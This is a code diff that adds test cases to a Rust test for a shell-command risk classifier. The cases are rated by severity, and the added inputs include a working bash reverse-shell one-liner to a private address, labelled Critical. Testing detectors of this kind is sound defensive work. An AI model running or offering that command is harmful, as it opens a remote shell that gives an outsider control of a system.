@@ -84,6 +84,16 @@ fn what_is_worse_is_told_as_worse() {
         Severity::Medium,
     );
     check("rm -f a", "recursive-deletion", Severity::Medium);
+    check(
+        "bash -i >& /dev/tcp/10.0.0.1/1 0>&1",
+        "reverse-shell",
+        Severity::Critical,
+    );
+    check(
+        "echo > /dev/tcp/localhost/80",
+        "reverse-shell",
+        Severity::Medium,
+    );
     check("git push --force", "force-push", Severity::High);
     check("git push --force-with-lease", "force-push", Severity::Low);
     check("chmod 777 a", "open-permissions", Severity::Medium);
